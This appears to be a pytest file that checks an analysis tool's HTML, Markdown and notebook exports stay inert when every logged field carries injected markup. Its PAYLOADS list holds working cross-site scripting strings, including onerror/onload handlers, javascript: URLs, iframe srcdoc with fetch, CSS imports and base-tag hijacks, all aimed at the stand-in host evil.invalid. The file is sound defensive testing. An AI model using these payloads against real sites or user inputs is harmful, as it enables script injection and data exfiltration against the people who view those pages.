"""A log that came from elsewhere, with markup in every text that it has: no document made of it runs or fetches anything."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from analyst_kernels import DisplayData, Error, ExecuteResult, Stream
from markdown_it import MarkdownIt

from analyst.events import (
    Answered,
    Asked,
    Call,
    CallDecided,
    Event,
    Isolated,
    ModelReplied,
    PlanProposed,
    PlanStep,
    StepFinished,
    StepStarted,
    Stopped,
    Surveyed,
    ToolReturned,
    Usage,
    Variable,
)
from analyst.export import export
from analyst.log import Log

HOST = "evil.invalid"
PAYLOADS = [
    f"<img src=//{HOST}/x onerror=alert(1)>",
    f"</script></style></title></textarea></pre><script src=https://{HOST}/x.js></script>",
    f"![x](https://{HOST}/x.png) ![y][r]\n\n[r]: //{HOST}/y.png",
    f'"><svg/onload=alert(1)><iframe srcdoc="<script>fetch(\'//{HOST}\')</script>">',
    f"[click](javascript:fetch('//{HOST}')) <a href='&#106;avascript:alert(1)'>x</a>",
    f"```\n</code></pre><link rel=stylesheet href=//{HOST}/x.css>\n```\n<style>@import url(//{HOST}/y);</style>",
    f"<button data-commandlinker-command='x' formaction=//{HOST}>go</button><base href=//{HOST}/>",
    f"$\\href{{javascript:alert(1)}}{{x}}$ \x1b]8;;http://{HOST}\x07x\x1b]8;;\x07 \u202e --> <!-- ]]> {{{{7*7}}}} ${{x}}",
]
FACTS: list[Event] = [
    Asked("P", ("/data/P.csv",)),
    Isolated("landlock", "P"),
    Surveyed("P", ({"path": "P", "columns": [{"name": "P", "column": "P"}], "P": "P"},)),
    PlanProposed((PlanStep("a", "P", "P"),)),
    StepStarted("a"),
    ModelReplied("P", (Call("1", "python", '{"code": "print(1)  # P"}'),), Usage(), "stop", "P", "", "P"),
    CallDecided("1", allowed=True, by="person", reason="P"),
    ToolReturned("1", True, "P", (
        Stream("stdout", "P"), Stream("stderr", "P"), Error("P", "P", ("P", "P")), ExecuteResult({"text/plain": "P"}, {"P": "P"}),
        DisplayData({"text/html": "P", "text/plain": "P"}), DisplayData({"text/markdown": "P"}), DisplayData({"text/latex": "P"}),
        DisplayData({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>P</svg>", "text/plain": "P"}),
        DisplayData({"application/javascript": "P"}), DisplayData({"image/png": "P"}),
    ), variables=(Variable("P", "P", "P"),), gone=("P",)),
    StepFinished("a", True, "P"),
    Stopped("failures", "P"),
    Answered("P", {"P": "P"}),
]  # fmt: skip
FETCHES = {
    "src",
    "srcset",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "ping",
    "xlink:href",
    "srcdoc",
    "manifest",
}
"""Attributes that fetch or send without a click on a link, or carry a page."""


def planted(value: Any, payload: str) -> Any:
    """The value with the payload in place of each P."""
    if isinstance(value, str):
        return payload if value == "P" else value.replace("P.csv", f"{payload}.csv").replace("# P", "# " + payload.replace("\n", " ").replace('"', "'").replace("\\", "").translate(dict.fromkeys(range(32)))).replace(">P<", f">{payload}<")  # fmt: skip
    if isinstance(value, dict):
        return {planted(k, payload): planted(v, payload) for k, v in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(planted(v, payload) for v in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{f.name: planted(getattr(value, f.name), payload) for f in fields(value) if f.init}
        )
    return value


class Page(HTMLParser):
    """What of a page acts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.acts: list[str] = []
        self._in = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in = tag if tag in ("script", "style") else ""
        if tag in ("base", "iframe", "object", "embed", "form", "meta") and HOST in str(attrs):
            self.acts.append(tag)
        for name, value in attrs:
            said = "".join((value or "").split()).lower()
            if name.startswith("on") or name.startswith("data-command"):
                self.acts.append(f"{tag} {name}={value}")
            if said.startswith(("javascript:", "vbscript:")) or name in FETCHES and HOST in said:
                self.acts.append(f"{tag} {name}={value}")
            if name == "href" and tag != "a" and HOST in said or name == "style" and HOST in said:
                self.acts.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._in and HOST in data:
            self.acts.append(f"in {self._in}")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002
        self._in = ""


def acting(markdown: str) -> list[str]:
    """What acts in Markdown, where it is shown with its HTML."""
    return Page(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)).acts


def texts(notebook: Any) -> Iterator[tuple[str, list[str]]]:
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            yield cell.source, acting(cell.source)
        for output in cell.get("outputs", ()):
            for mime, text in output.get("data", {}).items():
                assert mime != "application/javascript"
                if mime in ("text/html", "image/svg+xml"):
                    yield text, Page(text).acts
                if mime == "text/markdown":
                    yield text, acting(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_document_of_it_acts(tmp_path: Path, payload: str) -> None:
    with Log(tmp_path) as log:
        for fact in FACTS:
            log.append(planted(fact, payload))
    page = Path(export(tmp_path, "html", tmp_path / "a.html")).read_text()
    assert HOST in page, "it is not shown at all"
    assert Page(page).acts == []
    assert acting(Path(export(tmp_path, "md", tmp_path / "a.md")).read_text()) == []
    notebook = nbformat.read(export(tmp_path, "ipynb", tmp_path / "a.ipynb"), as_version=4)
    assert [acts for _, acts in texts(notebook) if acts] == []
    assert not notebook.metadata.get("widgets")


def test_the_look_at_a_page_sees_what_acts() -> None:
    for payload in PAYLOADS[:-1]:
        assert Page(payload).acts or acting(payload), payload
